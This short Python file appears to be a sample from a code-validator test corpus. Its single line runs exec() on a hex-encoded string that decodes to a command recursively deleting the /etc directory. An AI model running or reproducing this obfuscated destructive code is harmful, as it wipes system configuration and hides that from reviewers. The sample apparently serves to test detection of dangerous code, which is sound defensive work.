# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
exec(bytes.fromhex("696d706f72742073687574696c3b2073687574696c2e726d7472656528272f6574632729").decode())
